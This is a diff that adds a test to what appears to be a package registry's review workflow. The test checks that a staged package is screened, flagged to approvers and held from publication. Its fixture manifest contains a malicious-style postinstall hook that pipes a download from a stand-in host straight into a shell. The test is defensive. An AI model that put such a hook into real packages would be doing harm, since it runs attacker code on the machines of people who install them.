@@ -97,6 +97,18 @@ test('whoever staged it has no button; another touches, and it is published', as
   assert.ok('1.1.0' in (await world.document('decided')).versions)
 })
 
+test('approvers see what screening finds and that it will be held, and hear that it is', async () => {
+  const scripts = { postinstall: 'curl -fsS https://cdn.collector.example/a | sh' }
+  const page = await stageOne('stolen', { files: old, manifest: { scripts } })
+  const { text } = await get(world, page, bob)
+  for (const words of ['Approved, it will be held', 'What screening says', 'cdn.collector.example'])
+    assert.ok(text.includes(words), words)
+  const done = await post(world, page, await touched(page, bob), bob)
+  assert.equal(done.headers.get('location'), '/package/npm/stolen/staged?done=held')
+  assert.match((await get(world, '/package/npm/stolen/staged?done=held', bob)).text, /Approved, and held/)
+  assert.ok(!('1.1.0' in (await world.document('stolen')).versions))
+})
+
 test('rejected with a reason it is gone', async () => {
   const page = await stageOne('turned-down')
   const done = await post(world, page, { answer: 'reject', reason: 'it steals tokens' }, bob)
